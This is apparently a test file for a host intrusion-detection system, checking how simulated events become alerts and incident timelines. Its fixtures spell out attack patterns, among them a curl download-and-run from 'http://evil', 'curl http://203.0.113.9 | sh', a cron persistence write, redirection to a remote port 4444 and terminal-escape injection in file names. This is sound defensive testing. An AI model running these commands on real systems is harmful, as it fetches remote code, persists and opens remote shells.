import assert from 'node:assert/strict';
import test from 'node:test';
import { alertReason, incidentTitle, storyLines } from '@ringfence/incident-text';
import { O } from '@ringfence/synthetic';
import { type Incident, IPPROTO, incidentId, records } from '@ringfence/wire';
import { bootedHost, createFeed, createTestDetector, detectOne, latest, login, RULES } from './support.ts';

const { AF_INET } = records.AddressFamily;
const storyOf = (incident: Incident | undefined): string[] => (incident === undefined ? [] : storyLines(incident));
const reasonsOf = (incident: Incident | undefined): string[] => (incident?.alerts ?? []).map(alertReason);

test('two warnings of distinct tactics in one session are an incident with its timeline', () => {
  const { host, sshd } = bootedHost();
  const bash = login(host, sshd);
  const curl = host.spawn(bash, '/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://evil']);
  host.open(curl, '/tmp/x', O.WRONLY | O.CREAT);
  host.exit(curl);
  const x = host.spawn(bash, '/tmp/x');
  host.open(x, '/etc/cron.d/job', O.WRONLY | O.CREAT);
  const { alerts, incidents } = detectOne(createTestDetector(), createFeed(host).next());
  assert.deepEqual(
    alerts.map(({ rule }) => rule),
    ['Download and execute', 'Cron changed'],
  );
  const [incident] = incidents;
  assert.equal(incidents.length, 1);
  assert.equal(incident?.id, incidentId(alerts[0]?.id ?? ''));
  assert.deepEqual([incident?.version, incident?.state, incident?.severity], [1, 'open', 'warning']);
  assert.deepEqual(
    incident?.stages.map(({ tactic, techniques }) => [tactic, techniques]),
    [
      ['command-and-control', ['T1105']],
      ['persistence', ['T1053.003']],
    ],
  );
  assert.deepEqual(reasonsOf(incident), ['opened this incident', 'same process as in "Download and execute"']);
  assert.deepEqual(
    storyOf(incident),
    [
      '01:00:00 root ran /tmp/x (pid 105), which /usr/bin/curl (pid 104) had written 3 ms before: Download and execute (command and control, T1105)',
      '01:00:00 /tmp/x (pid 105) opened /etc/cron.d/job for writing: Cron changed (persistence, T1053.003)',
    ].map((line) => line.replace('pid 105', `pid ${x.tgid}`).replace('pid 104', `pid ${curl.tgid}`)),
  );
  assert.equal(incident && incidentTitle(incident), 'Download and execute and persistence by /tmp/x');
  assert.deepEqual([incident?.title, incident?.story, incident?.alerts[0]?.why], ['', [], '']);
});

test('the alerts about one action share one line of the timeline', () => {
  const { host, sshd } = bootedHost();
  const text = `${RULES}
- rule: Hidden
  desc: d
  condition: event.action = exec and process.name startswith "."
  priority: error
  tags: [stealth, T1564.001]
`;
  host.spawn(login(host, sshd), '/tmp/.x');
  const { incidents } = detectOne(createTestDetector({}, text), createFeed(host).next());
  assert.equal(incidents[0]?.alerts.length, 2);
  assert.equal(storyOf(incidents[0]).length, 1);
  assert.match(
    storyOf(incidents[0])[0] ?? '',
    /: Download and execute \(command and control, T1105\); Hidden \(stealth, T1564\.001\)$/,
  );
});

test('a failed action is shown as an attempt', () => {
  const { host, sshd } = bootedHost();
  const rules = ['exec_failed', 'fork_failed', 'credentials_failed'].map(
    (action) => `
- rule: Failed by ${action}
  desc: d
  condition: event.action = ${action}
  priority: critical
  tags: [execution, T1204.002]
`,
  );
  const x = host.spawn(login(host, sshd), '/opt/x');
  host.event(x, 'Attempt', { operation: 2, call: 5, result: -13, count: 1, path: '/tmp/../tmp/y\u001b' });
  host.event(x, 'Attempt', { operation: 1, call: 3, result: -11, count: 1 });
  host.event(x, 'Attempt', { operation: 3, call: 8, result: -1, count: 1 });
  const { incidents } = detectOne(createTestDetector({}, RULES + rules.join('')), createFeed(host).next());
  const story = storyOf(latest(incidents)[0]);
  assert.deepEqual(
    story.map((line) => /pid \d+\) (.*): Failed/.exec(line)?.[1]),
    ['tried to run /tmp/y\\x1b', 'tried to start a process', 'tried to change its privileges'],
  );
});

test('every action has a sentence, in which names are escaped', () => {
  const { host, sshd } = bootedHost();
  const actions = ['mount', 'ptrace', 'signal', 'sysctl', 'shell_line', 'listen', 'accept'];
  const rules = actions.map(
    (action) => `
- rule: Did ${action}
  desc: d
  condition: event.action = ${action}
  priority: critical
  tags: [execution, T1059]
`,
  );
  const x = host.spawn(login(host, sshd), '/opt/x');
  const victim = host.spawn(host.init, '/opt/victim');
  const socket = { operation: 3, port: 80, address: Buffer.alloc(4) };
  host.mountChange(x, 'MOUNT', { source: '/dev/sda1', target: '/mnt/\u001b[2J' });
  host.access(x, victim);
  host.access(host.spawn(x, '/opt/y'), victim, { result: -1 });
  host.event(x, 'Signal', {
    targetTgid: victim.tgid,
    targetStart: victim.startBytes.readBigUInt64LE(),
    signal: 9,
    result: 0,
  });
  host.event(x, 'Sysctl', { name: 'kernel/core_pattern', before: 'core', after: '|/tmp/x' });
  host.shellLine(x, 'curl http://203.0.113.9 | sh');
  host.socket(x, socket);
  host.accept(x, { address: '203.0.113.9', port: 4000 }, { address: '10.0.0.1', port: 80 });
  const { incidents } = detectOne(createTestDetector({}, RULES + rules.join('')), createFeed(host).next());
  const story = storyOf(latest(incidents)[0]);
  assert.deepEqual(
    story.map((line) => /\(pid \d+\) (.*): Did/.exec(line)?.[1]?.replace(String(victim.tgid), 'PID')),
    [
      'did mount /dev/sda1 on /mnt/\\x1b[2J',
      'did ptrace PTRACE_ATTACH to process PID',
      'tried to ptrace PTRACE_ATTACH to process PID',
      'sent SIGKILL to process PID',
      'set kernel.core_pattern to "|/tmp/x"',
      'was given the line "curl http://203.0.113.9 | sh"',
      'did listen (AF_INET) on port 80',
      'accepted a connection from 203.0.113.9 port 4000',
    ],
  );
});

test('a redirected stream is shown with the peer of its connection', () => {
  const { host, sshd } = bootedHost();
  const rules = [0, 1, 2].map(
    (stream) => `
- rule: Redirected ${stream}
  desc: d
  condition: event.action = redirect and redirect.descriptor = ${stream}
  priority: critical
  tags: [execution, T1059]
`,
  );
  const x = host.spawn(login(host, sshd), '/opt/x');
  const ends = { family: AF_INET, protocol: IPPROTO.TCP, address: Buffer.from([203, 0, 113, 9]), port: 4444, count: 1 };
  host.event(x, 'Redirect', { ...ends, targetDescriptor: 0, call: 2 });
  host.event(x, 'Redirect', { ...ends, targetDescriptor: 1, call: 3, result: -22 });
  host.event(x, 'Redirect', { ...ends, address: Buffer.alloc(4), port: 0, targetDescriptor: 2, call: 2, result: 2 });
  const { incidents } = detectOne(createTestDetector({}, RULES + rules.join('')), createFeed(host).next());
  const story = storyOf(latest(incidents)[0]);
  assert.deepEqual(
    story.map((line) => /pid \d+\) (.*): Redirected/.exec(line)?.[1]),
    [
      'redirected its input to the connection with 203.0.113.9 port 4444',
      'tried to redirect its output to the connection with 203.0.113.9 port 4444',
      'redirected its errors to a socket',
    ],
  );
});

test('terminal escapes in names reach neither the title nor the timeline, the reasons or the output', () => {
  const { host, sshd } = bootedHost();
  const bash = login(host, sshd);
  host.spawn(bash, '/tmp/\u001b[2J\nx\u202e', ['\u001b]0;owned\u0007']);
  host.credentials(bash, 0);
  const { alerts, incidents } = detectOne(createTestDetector(), createFeed(host).next());
  const rendered = incidents.map((incident) => [incidentTitle(incident), storyOf(incident), reasonsOf(incident)]);
  const texts = JSON.stringify([alerts, rendered, incidents.map(({ container: _, ...rest }) => rest)], (_, value) =>
    typeof value === 'bigint' ? String(value) : value,
  );
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the test searches for control characters
  assert.doesNotMatch(texts.replaceAll('\\\\', ''), /[\u0000-\u001f\u007f-\u009f\u202e]|\\u001b|\\n/);
});
